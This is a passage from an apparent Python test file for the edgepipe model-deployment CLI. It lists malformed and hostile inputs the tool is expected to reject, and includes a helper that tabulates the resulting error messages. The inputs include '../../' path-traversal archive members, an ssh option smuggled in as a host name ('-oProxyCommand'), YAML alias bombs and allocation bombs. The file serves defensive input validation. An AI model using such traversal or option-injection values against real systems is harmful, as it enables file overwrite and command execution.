    Case("bad-yaml", "edgepipe.yaml that is not valid YAML", bad_yaml, ("edgepipe.yaml", "line 2")),
    Case("tampered-bundle", "a bundle file changed after the build", tampered_bundle, ("model.bin",), exit_code=1),
    Case("traversal-archive", "a bundle archive with ../ paths", traversal_archive, ("../../escaped.txt",)),
    Case("archive-deep-path", "a bundle archive with a member 3000 folders deep", archive_deep_path,
         ("deep.tar.gz", "refusing member 'bundle/d/d/d", "(6008 characters)", "deeper than 32 folders")),
    Case("missing-baseline", "regress with a missing baseline report", missing_baseline, ("release-1.2.json",)),
    Case("unreachable-host", "deploy to a host that does not answer", unreachable_host, ("127.0.0.1",)),
    Case("dash-host", "a host name that would be read as an ssh option", dash_host, ("-oProxyCommand",)),
    Case("out-not-a-bundle", "--out naming a folder edgepipe did not write (`.`, a web app)", out_is_user_folder,
         ("webapp", "not an edgepipe bundle")),
    Case("fifo-config", "a FIFO as the config file (would block)", fifo_config, ("edgepipe.yaml", "not a regular file")),
    Case("device-config", "/dev/zero as the config file", device_file_config, ("/dev/zero", "not a regular file")),
    Case("fifo-calib", "a FIFO as calibration data", fifo_calib, ("calib.npz", "not a regular file")),
    Case("yaml-duplicate-key", "edgepipe.yaml giving `calibration.method` twice (PyYAML keeps the last)",
         yaml_duplicate_key, ("edgepipe.yaml", "line 7", "key 'method' is given twice")),
    Case("yaml-alias-bomb", "YAML alias expansion (billion laughs) in edgepipe.yaml", yaml_alias_bomb,
         ("edgepipe.yaml", "aliases")),
    Case("nested-yaml", "edgepipe.yaml nested thousands of levels deep", deeply_nested_yaml, ("edgepipe.yaml", "nested")),
    Case("input-shape-type", "`input_shapes: {x: 5}` (not a list)", input_shape_not_list, ("input_shapes.x", "list")),
    Case("pinned-input-missing", "`--input-value` naming an input the model does not have", pinned_input_missing,
         ("'rate'", "input_values")),
    Case("pinned-input-type", "`--input-value sr=16000.5` for an int64 input", pinned_input_not_integer,
         ("'sr'", "int64")),
    Case("if-on-data", "an If whose condition reads input data, with other inputs pinned", if_on_data,
         ("'rate_switch'", "'x'", "input_values")),
    Case("unpinned-if", "an If on an input (a sample rate) that is not pinned", unpinned_if,
         ("'rate_switch'", "--input-value")),
    Case("loop-without-trip-count", "jetson: a Loop with scan outputs and no trip count (TensorRT's parser "
         "rejects it)", loop_without_trip_count, ("'smooth_loop' (Loop)", "trip count")),
    Case("zca-negative-eps", "ZCA whitening with eps < 0", negative_zca_eps, ("fold.eps", ">= 0")),
    Case("histogram-bins-bomb", "`calibration.num_bins: 100000000000` (800 GB of histogram per tensor)",
         histogram_bins_bomb, ("edgepipe.yaml", "'calibration.num_bins' must be <= 65536")),
    Case("zero-iterations", "`report.iterations: 0` (checked before the old bundle is touched)", zero_iterations,
         ("report.iterations", ">= 1")),
    Case("profile-option-type", "a target profile with `workspace_mb: lots`", profile_workspace_not_int,
         ("orin.yaml", "workspace_mb", "int")),
    Case("profile-option-range", "a target profile with `workspace_mb: -1`", profile_negative_workspace,
         ("orin.yaml", "workspace_mb", ">= 1")),
    Case("profile-threads-huge", "a target profile with `threads: 100000000000000000000` (LiteRT takes a C int)",
         profile_threads_huge, ("board.yaml", "'options.threads'", "<= 1024")),
    Case("non-utf8-name", "a node name that is not UTF-8 (bytes 0xff 0xfe)", non_utf8_name,
         ("model.onnx: a NodeProto name is not UTF-8", "re-export the model")),
    Case("thin-image", "a 300-byte 1x60000-pixel PNG in an image folder (the resize before the crop took 3 GB, "
         "then 'out of memory')", thin_image, ("thin.png: 1x60000 pixels", "makes 224x13440000 before the crop")),
    Case("input-shape-twice", "`--input-shape x:1x3x8x8 --input-shape x:4x3x8x8` (the last silently won)",
         input_shape_twice, ("--input-shape gives input 'x' twice ('x:1x3x8x8' and 'x:4x3x8x8')",)),
    Case("labels-past-classes", "eval labels up to 1000 for a model with 5 output classes (top-1 was 0 for "
         "FP32 and int8)", labels_past_the_classes,
         ("eval.npz: labels go up to 1000 but the model's output 'y' has 5 classes",)),
    Case("reshape-for-another-size", "`--input-shape` other than the size a Reshape constant was exported for "
         "(ONNX Runtime fails running the node)", reshape_for_another_size,
         ("node 'to_vector' (Reshape) cannot run in ONNX Runtime on the calibration data", "requested shape")),
    Case("profile-option-misspelled", "a target profile with `options: {thread: 4}` (a misspelled option was "
         "silently ignored)", profile_option_misspelled,
         ("board.yaml", "options.thread is not an option target 'arm-cpu' reads", "did you mean 'threads'")),
    Case("empty-baseline", "regress against a baseline with no figures", empty_baseline, ("baseline.json", "nothing to compare")),
    Case("infinite-baseline", "a baseline latency of Infinity", infinite_baseline, ("baseline.json", "latency.p50", "inf")),
    Case("nan-baseline", "a NaN baseline metric", nan_baseline, ("baseline.json", "accuracy.top1", "nan")),
    Case("json-duplicate-key", "a candidate results.json giving `latency_ms.p50` twice (json keeps the last)",
         json_duplicate_key, ("candidate.json", "key 'p50' is given twice")),
    Case("results-wrong-type", "a results.json figure of the wrong type", results_wrong_types,
         ("baseline.json", "latency_ms.p50", "number")),
    Case("results-markup", "markup in a results.json number field (report)", results_hostile_bin,
         ("results.json", "ece_bins[0].count")),
    Case("nested-json", "a results.json nested 100000 levels deep", deeply_nested_results, ("results.json", "nested")),
    Case("fifo-results", "a FIFO as results.json", fifo_results, ("results.json", "not a regular file")),
    Case("inventory-list", "an inventory with a list where a mapping belongs", inventory_list_for_map,
         ("hosts.yml", "'all.hosts' must be a mapping")),
    Case("inventory-jump-host", "an inventory host reached through `ansible_ssh_common_args: -o ProxyJump=...` "
         "(ignored: ssh went to the private address from here)", inventory_jump_host,
         ("hosts.yml: host pi1: ansible_ssh_common_args is not used by edgepipe deploy", "~/.ssh/config")),
    Case("inventory-alias-loop", "an inventory with a recursive YAML alias", inventory_recursive_alias,
         ("hosts.yml", "aliases")),
    Case("pack-over-user-file", "`pack B -o notes.txt` naming a file that is not an archive (or a device: "
         "`-o /dev/null` as root replaced the device)", pack_over_user_file,
         ("notes.txt", "is not a .tar.gz; refusing to replace it")),
    Case("pack-into-bundle", "`pack B -o B/manifest.json` (writing inside the bundle)", pack_into_bundle,
         ("manifest.json", "inside the bundle")),
    Case("zero-input-model", "a model with no inputs", zero_input_model, ("model.onnx", "no inputs")),
    Case("allocation-bomb", "a ConstantOfShape that would allocate terabytes", allocation_bomb,
         ("'big'", "ConstantOfShape", "elements")),
    Case("corrupt-npz-non-onnx", "a non-.onnx model with a corrupt .npz", torch_model_corrupt_npz,
         ("calib.npz", "not a readable numeric .npz")),
    Case("archive-hard-link", "a bundle archive with a hard link to a missing member", archive_hard_link,
         ("bundle/model.bin", "link")),
    Case("training-dropout", "a Dropout in training mode (training_mode true)", training_dropout,
         ("node 'drop' (Dropout)", "training_mode input 'mode' is true")),
    Case("sequence-input", "a model whose input is a sequence, not a tensor (`inspect`)", sequence_input,
         ("model.onnx: input 'x' is of type sequence, not a tensor",)),
    Case("float8-input", "a float8 model input", float8_input,
         ("model.onnx: input 'x' is FLOAT8E4M3FN", "export the model with float32 inputs")),
    Case("external-data-nul", "an external-data file name holding a NUL byte", external_data_nul,
         ("model.onnx: initializer 'w'", "NUL character")),
    Case("huge-static-input", "`inspect` of a model whose static input holds 2^65 elements", huge_static_input_inspect,
         ("model.onnx: tensor 'x' would hold 36893488147419103232 elements",)),
    Case("cut-gzip-archive", "a bundle .tar.gz cut inside its gzip header", cut_gzip_archive,
         ("cut.tar.gz: not a readable tar archive",)),
    Case("archive-beside-bundle", "a bundle archive holding a file beside the bundle folder", archive_beside_bundle,
         ("extra.tar.gz: the archive holds 'install.sh' beside the bundle folder 'bundle'",)),
    Case("deploy-timeout-nan", "`deploy --timeout nan`", deploy_timeout_nan, ("--timeout nan",)),
    Case("negative-candidate-latency", "a candidate results.json with a negative latency", negative_candidate_latency,
         ("candidate.json: 'latency_ms.p50' must be a time >= 0, got -1.0",)),
    Case("accuracy-out-of-range", "a candidate top-1 of 2.0", accuracy_out_of_range,
         ("candidate.json: 'accuracy.top1' must be a fraction from 0 to 1, got 2.0",)),
    Case("negative-labels", "evaluation labels holding -1", negative_labels,
         ("eval.npz: 'labels' holds -1 for sample 3",)),
    Case("compare-tampered-bundle", "`compare` of a bundle whose eval.npz changed after the build",
         compare_tampered_bundle, ("refusing to compare a bundle that fails `edgepipe verify`: eval/eval.npz",)),
    Case("long-io-name", "a model input named with 100,000 characters", long_io_name,
         ("model.onnx: input 'xxxxxxxxxx", "has a name of 100000 bytes")),
    Case("sensitivity-budget-nan", "`sensitivity --budget nan` (checked before any work)", sensitivity_budget_nan,
         ("--budget nan",)),
    Case("junit-over-baseline", "`regress --junit baseline.json` (an output naming the command's own input)",
         junit_over_baseline, ("baseline.json", "--junit names the --baseline this command reads")),
    Case("compare-out-in-bundle", "`compare B --out B/model.tflite` (an output file among the bundle's files)",
         compare_out_in_bundle, ("model.bin", "is inside the bundle")),
    Case("empty-output", "arm-cpu: a graph output with a dimension of 0 (a pool window larger than its input)",
         empty_output, ("node 'pool' (AveragePool)", "tensor 'y' is empty ([1, 3, 0, 0])")),
    Case("string-output", "a graph output of type STRING (a Cast to STRING)", string_output,
         ("model.onnx: output 'y' (made by node 'tostr', Cast) is STRING",)),
    Case("negative-variance", "a BatchNormalization whose running variance is negative", negative_variance,
         ("node 'my_bn' (BatchNormalization) has variance -2 + epsilon 1e-05 <= 0 in channel 1",)),
    Case("report-over-user-file", "`report results.json` beside a report.md that edgepipe did not write",
         report_over_user_file, ("report.md: exists and is not a report edgepipe wrote", "-o DIR")),
    Case("duplicate-output", "a graph output listed twice", duplicate_output,
         ("model.onnx: output 'y' is listed twice among the graph outputs",)),
    Case("weight-output", "a graph output that is a weight (an initializer)", weight_output,
         ("model.onnx: output 'w' is a weight of the model (an initializer)",)),
    Case("results-eval-string", "`report` of a results.json whose `eval` is a string", results_eval_string,
         ("results.json: 'eval' must be a mapping or null",)),
    Case("empty-intermediate-arm", "arm-cpu: a tensor of size 0 inside the graph (a Slice to nothing)",
         empty_intermediate_arm, ("tensor 'e' is empty ([0, 4])",)),
    Case("config-nul-path", "a path in edgepipe.yaml holding a NUL byte (the YAML escape `\\0`)", config_nul_path,
         ("edgepipe.yaml", "'calib' holds a NUL character")),
    Case("inventory-nul-key-file", "an inventory key file path holding a NUL byte", inventory_nul_key_file,
         ("hosts.yml", "host pi1", "ansible_ssh_private_key_file holds a NUL character")),
    Case("future-opset", "a model stamped with ONNX opset 99 (no release defines it; the build failed inside ONNX Runtime)",
         future_opset, ("model.onnx", "opset 99", "re-export it with an opset up to")),
    Case("opset-twice", "`inspect` of a model importing the ONNX domain at two versions (17 and 11)", opset_twice,
         ("model.onnx", "gives the ONNX domain twice (versions 17 and 11)")),
    Case("checkpoint-int-keys", "a --weights state_dict keyed by integers, not parameter names", checkpoint_int_keys,
         ("weights.pt", "has the key 0 (int)")),
    Case("checkpoint-empty", "a --weights file holding an empty state_dict (`torch.save({})`: the build hung)",
         checkpoint_empty, ("weights.pt", "does not match the model: it has no")),
    Case("checkpoint-complex", "a --weights state_dict of complex tensors (the imaginary parts were dropped silently)",
         checkpoint_complex, ("weights.pt", "is a complex tensor (torch.complex64) but the model")),
    Case("ranges-reversed", "a `calibration.ranges` file whose range for a tensor is reversed (lo 5, hi -5)",
         ranges_reversed, ("ranges.json", "tensor 'c': needs amax >= 0 and lo <= 0 <= hi")),
    Case("ranges-zeroed-text", "a `calibration.ranges` file with `zeroed: most` (arm-cpu: an internal error)",
         ranges_zeroed_text, ("ranges.json", "tensor 'c': zeroed must be a share from 0 to 1")),
    Case("pickled-scalar-in-folder", "a folder of .npy samples for a scalar input, one a pickled object (0-d)",
         pickled_scalar_in_folder, ("calib/0.npy", "input 'x' has non-numeric dtype object")),
    Case("cut-npz-torch-model", "a PyTorch model's calibration .npz cut in half (an interrupted copy)",
         torch_model_cut_npz, ("calib.npz", "not a readable numeric .npz file (File is not a zip file)")),
    Case("fortran-npy-declared-huge", "a Fortran-order .npy whose header declares 768 TB over 3 kB of data",
         fortran_npy_declared_huge, ("calib.npy", "declares shape (1000000000000, 3, 8, 8)", "truncated")),
    Case("npy-header-unclosed", "a .npy header with an unclosed parenthesis (numpy's tokenizer raised TokenError)",
         npy_header_unclosed, ("calib.npy", "its .npy header is not a Python literal")),
    Case("tensor-type-flipped", "`inspect` of a model whose bias type byte changed from FLOAT to BOOL (20 bytes for 5 values)",
         tensor_type_flipped, ("model.onnx", "tensor 'fc_b' (BOOL [5]) needs 5 bytes but the file holds 20")),
    Case("results-lone-surrogate", "`report` of a results.json holding a lone UTF-16 surrogate escape (`\\ud800`)",
         results_lone_surrogate, ("results.json", "holds a lone UTF-16 surrogate")),
    Case("profile-lone-surrogate", "a target profile `name:` holding YAML's escape of half a UTF-16 pair (`\\ud800`)",
         profile_lone_surrogate, ("board.yaml", "holds a lone UTF-16 surrogate")),
]


def markdown_table(messages: dict[str, str] | None = None) -> str:
    rows = ["| case | command | exit | message (one line) |", "|---|---|---|---|"]
    for case in CASES:
        message = (messages or {}).get(case.id, " … ".join(case.expect))
        rows.append(f"| {case.what} | `{case.id}` | {case.exit_code} | {message} |")
    return "\n".join(rows)


def observed_messages() -> dict[str, str]:
    """Run every case through the CLI entry point and collect the message a user sees."""
    import contextlib
    import io
    import os
    import tempfile

    from edgepipe.cli.main import main

    messages = {}
    for case in CASES:
        with tempfile.TemporaryDirectory() as tmp:
            tmp = Path(tmp)
            args = case.setup(tmp)
            stderr = io.StringIO()
            old = os.getcwd()
            os.chdir(tmp)
            try:
                with contextlib.redirect_stderr(stderr), contextlib.suppress(SystemExit):
                    main(args)
            finally:
                os.chdir(old)
            lines = [line for line in stderr.getvalue().strip().splitlines() if line.strip()]
            text = " / ".join(lines) if case.exit_code == 1 else (lines[-1] if lines else "")
            messages[case.id] = text.replace(str(tmp) + "/", "").replace(str(tmp), ".").replace("|", "\\|")
    return messages


if __name__ == "__main__":
    print(markdown_table(observed_messages()))
